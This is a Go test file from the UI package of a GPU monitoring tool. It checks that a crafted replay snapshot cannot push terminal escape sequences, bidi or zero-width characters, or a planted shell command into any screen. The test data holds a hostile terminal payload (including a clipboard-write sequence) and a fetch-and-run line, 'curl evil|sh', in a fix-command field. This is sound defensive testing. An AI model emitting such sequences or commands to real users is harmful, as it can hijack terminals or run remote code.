package ui

import (
	"bytes"
	"context"
	"strings"
	"testing"
	"time"

	"github.com/gputop/gputop/model"
	"github.com/gputop/gputop/model/safe"
	"github.com/gputop/gputop/sampler"
	"github.com/gputop/gputop/sampler/replay"
)

// Issue 11 items 1 and 2: strings from outside (a crafted snapshot here;
// /proc and NVML on the live path) must not carry a byte the terminal acts
// on into any View. Views are drawn with the ASCII profile (TestMain), so a
// clean screen has no ESC at all.

const hostileUI = "\x1b]52;c;ZWNobyBQV05FRAo=\x07\x1b]0;PWNED\x07\x1b[2J\x1b[?1049l\u009b31m\u202eevil\u200b"

// hostileSnapshotBytes is a snapshot file (not yet loaded) whose strings
// all carry s.
func hostileSnapshotBytes(t testing.TB, s string) []byte {
	t.Helper()
	t0 := time.Date(2026, 11, 21, 7, 53, 0, 0, time.UTC)
	var recs []model.GPURecord
	for g := range 2 {
		rec := model.GPURecord{GPUInfo: model.GPUInfo{Index: g, Name: "H100" + s, UUID: "GPU-" + s, BusID: "0000:18:00.0" + s,
			MemoryTotal: model.Some[uint64](80 << 30)}}
		rec.Health = model.Health{State: model.Healthy, Reason: "ok" + s}
		for i := range 50 {
			at := model.TimestampOf(t0.Add(time.Duration(i) * 100 * time.Millisecond))
			rec.Samples = append(rec.Samples, model.Sample{Time: at, MemUsed: model.Some[uint64](10 << 30), MemTotal: model.Some[uint64](80 << 30),
				UtilGPU: model.Some[uint32](50), ClockSM: model.Some[uint32](1500)})
			if i%10 == 0 {
				rec.SlowSamples = append(rec.SlowSamples, model.SlowSample{Time: at, Processes: []model.Process{
					{PID: 4242, GPUIndex: g, Kind: "compute", Resolved: true, User: "bob" + s, Name: "py" + s,
						Command: "python3 " + s, UsedMemory: model.Some[uint64](1 << 30)}}})
			}
		}
		recs = append(recs, rec)
	}
	snap := model.NewSnapshot(model.SnapshotInput{
		Created: t0.Add(5 * time.Second), Interval: 100 * time.Millisecond, SlowInterval: time.Second,
		System: model.System{Host: "host" + s, DriverVersion: "580" + s, NVMLVersion: "13" + s, Source: "nvml"},
		GPUs:   recs,
		Events: []model.Event{{Time: model.TimestampOf(t0.Add(time.Second)), GPU: model.Some(0), Kind: model.EventXid,
			Severity: model.SevError, Message: "Xid 79" + s, Action: "reset" + s}},
		Checks: []model.CheckResult{{ID: "x" + s, Title: "title" + s, Status: model.Fail, Evidence: "ev" + s, Why: "why" + s,
			Fix: "fix" + s, Commands: []string{"echo ok\ncurl evil|sh", "ls" + s}}},
		Facts:  model.Facts{Host: "h" + s, NVCC: model.NVCCFacts{Found: true, Path: "/x" + s, Output: "o" + s}},
		Redact: model.RedactOptions{FullCommandLines: true},
	})
	var buf bytes.Buffer
	if err := snap.WriteJSON(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// replayModel opens data the way `gputop --replay` does and returns the
// model drawn at w x h.
func replayModel(t testing.TB, data []byte, w, h int) (*Model, bool) {
	snap, err := model.DecodeSnapshot(bytes.NewReader(data), 0)
	if err != nil {
		return nil, false // refused: nothing is drawn
	}
	s, err := sampler.Open(context.Background(), replay.Load(snap), replay.Options(snap))
	if err != nil {
		t.Fatal(err)
	}
	if err := replay.Fill(s, snap); err != nil {
		t.Fatal(err)
	}
	_, end, _ := replay.Range(snap)
	cfg := Config{
		Source: FromSampler(s), Interval: 100 * time.Millisecond, Theme: "dark", ReadOnly: true,
		Now:    func() time.Time { return end },
		Getenv: func(string) string { return "" },
		Replay: &ReplayInfo{Host: snap.Host, Recorded: snap.Created.Time(), Path: "box.json"},
		RunChecks: func(context.Context) ([]model.CheckResult, model.Facts, error) {
			return snap.Checks, snap.Facts, nil
		},
	}
	m := New(cfg)
	m.after = noTimers
	start(m, w, h)
	return m, true
}

// assertCleanViews walks the screens a user reaches (dashboard, process
// table, zoom, checks with a fix open, help) and asserts none carries a
// control, bidi or zero-width character.
func assertCleanViews(t testing.TB, m *Model) {
	t.Helper()
	keys := [][]string{{}, {"P"}, {"esc", "enter"}, {"esc", "tab", "tab", "enter"}, {"esc", "?"}}
	for _, ks := range keys {
		for _, k := range ks {
			drive(m, press(k))
		}
		v := m.View()
		if safe.HasEscape(v) || safe.HasBidiOrZeroWidth(v) {
			t.Fatalf("after keys %v the view carries a control character:\n%q", ks, v)
		}
		if strings.Contains(v, "NaN") {
			t.Fatalf("after keys %v the view shows NaN:\n%s", ks, v)
		}
		if strings.Contains(v, "curl evil") {
			t.Fatalf("after keys %v the view offers the planted command:\n%s", ks, v)
		}
	}
}

func TestHostileReplayViews(t *testing.T) {
	for _, size := range [][2]int{{120, 40}, {80, 24}, {200, 50}} {
		m, ok := replayModel(t, hostileSnapshotBytes(t, hostileUI), size[0], size[1])
		if !ok {
			t.Fatal("the hostile snapshot was refused; it is valid and must load (sanitised)")
		}
		assertCleanViews(t, m)
		m.cancel()
	}
}

// FuzzHostileView: whatever string a snapshot carries in every field, no
// screen of its replay carries a control, bidi or zero-width character.
func FuzzHostileView(f *testing.F) {
	f.Add(hostileUI)
	f.Add("\u009b2J")
	f.Add("a\tb\nc\rd")
	f.Fuzz(func(t *testing.T, s string) {
		m, ok := replayModel(t, hostileSnapshotBytes(t, s), 100, 30)
		if !ok {
			return
		}
		defer m.cancel()
		assertCleanViews(t, m)
	})
}

// FromSampler adapts a sampler for these tests as cmd/gputop's adapter does
// for the program (the ui package itself depends on model only).
func FromSampler(s *sampler.Sampler) Source {
	gpus := make([]GPUSource, len(s.GPUs()))
	for i, g := range s.GPUs() {
		gpus[i] = testSamplerGPU{g}
	}
	return testSamplerSource{Sampler: s, gpus: gpus}
}

type testSamplerSource struct {
	*sampler.Sampler
	gpus []GPUSource
}

func (a testSamplerSource) GPUCount() int       { return len(a.gpus) }
func (a testSamplerSource) GPU(i int) GPUSource { return a.gpus[i] }

type testSamplerGPU struct{ *sampler.GPU }

func (a testSamplerGPU) Info() model.GPUInfo { return a.GPU.Info }
